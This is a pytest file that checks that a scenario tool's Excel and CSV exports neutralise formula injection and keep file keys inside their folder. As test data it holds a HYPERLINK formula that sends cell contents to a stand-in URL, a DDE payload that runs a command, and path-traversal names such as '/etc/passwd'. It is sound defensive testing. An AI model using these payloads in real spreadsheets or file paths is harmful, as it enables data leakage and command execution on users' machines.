"""Hostile scenario text (issue 14, security): exported as data, never as formulas."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from app.compute import View, compute_view
from app.exports import results_csv, results_xlsx, verdict_table
from model.catalogue import LEVERS
from model.levers import plan_levers
from model.scenario import parse_scenario
from model.untrusted import csv_text, safe_cells, safe_key, write_csv

from .conftest import KECHENG

HYPERLINK = '=HYPERLINK("https://x/"&A1,"x")'
DDE = "=1+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def hostile_text(quote: str = HYPERLINK, reason: str = DDE, indicator: str = "@SUM(A1)") -> str:
    """Kecheng's file with an untracked target whose quote, reason and name are formulas."""
    text = KECHENG.read_text("utf-8")
    old = ('indicator = "rd_institution_rate"', 'quote = "规上制造业企业研发机构设置率达到60%以上"',
           'reason = "the model has no count of firms with R&D institutions"')
    for before in old:
        assert before in text
    text = text.replace(old[0], f"indicator = {json.dumps(indicator)}")
    text = text.replace(old[1], f"quote = {json.dumps(quote)}")
    return text.replace(old[2], f"reason = {json.dumps(reason)}")


def view_of(text: str) -> tuple[dict[str, float], View]:
    scenario = parse_scenario(text, "hostile.toml")
    levers = plan_levers(scenario)
    return levers, compute_view(scenario, levers, {}, runs=20, seed=1)


@pytest.fixture(scope="module")
def hostile() -> tuple[dict[str, float], View]:
    return view_of(hostile_text())


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_excel_export_holds_hostile_text_as_text_never_as_formulas(hostile, language):
    levers, view = hostile
    names = {k: LEVERS[k].label(language) for k in levers}
    data = results_xlsx(view, language, levers, levers, names)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    # The text is kept exactly as the scenario wrote it (no prefix), typed as text.
    shown = HYPERLINK if language == "zh" else "@SUM(A1)"
    assert {shown, DDE} <= texts
    for cell in cells:
        if cell.value in (HYPERLINK, DDE, "@SUM(A1)"):
            assert cell.data_type == "s" and cell.quotePrefix


def test_every_formula_like_csv_cell_starts_with_a_quote():
    frame = pd.DataFrame({"text": list(FORMULAS), "number": range(len(FORMULAS))},
                         index=pd.Index(["=index"] * len(FORMULAS), name="=name"))
    frame["plain"] = "R&D intensity"
    rows = list(csv.reader(io.StringIO(write_csv(frame), newline="")))
    assert rows[0][0] == "'=name"
    for row, formula in zip(rows[1:], FORMULAS, strict=True):
        assert row[0] == "'=index" and row[1] == "'" + formula
        assert row[2].lstrip("-").isdigit() and row[3] == "R&D intensity"
    assert safe_cells(pd.DataFrame({"x": [-1.5]}))["x"].iloc[0] == -1.5  # numbers stay numbers
    # A CR inside a cell is quoted, so no spreadsheet splits the row there and reads the
    # rest as a fresh, unprefixed cell.
    text = write_csv(pd.DataFrame({"q": [f"x\r{DDE}"]}), index=False)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["q"], [f"x\r{DDE}"]]
    assert csv_text("柯城区") == "柯城区"


def test_the_results_csv_and_the_verdict_table_keep_their_text(hostile):
    _, view = hostile
    text = results_csv(view, "en").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c[:1] == "-"
                and not c[1:2].isdigit()]
    table = verdict_table(view, "zh", modelled=False)
    assert HYPERLINK in set(table["指标"]) and DDE in set(table["原因"])  # kept as written


def test_an_xlsx_export_survives_control_characters():
    levers, view = view_of(hostile_text(quote="a\x01b", reason="=\x07"))
    data = results_xlsx(view, "zh", levers, levers, {k: k for k in levers})
    texts = {c.value for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets
             for row in sheet.iter_rows() for c in row}
    assert "a\ufffdb" in texts and "=\ufffd" in texts


def test_safe_key_keeps_names_inside_their_folder():
    assert safe_key("kecheng-2027") == "kecheng-2027"
    assert safe_key("柯城区_2027") == "柯城区_2027"
    for name in ("../escaped", "/etc/passwd", "a/b", "..", "", "a\x00b", "con:x"):
        key = safe_key(name)
        assert key and "/" not in key and ".." not in key and "\x00" not in key
    assert len(safe_key("x" * 300)) <= 80
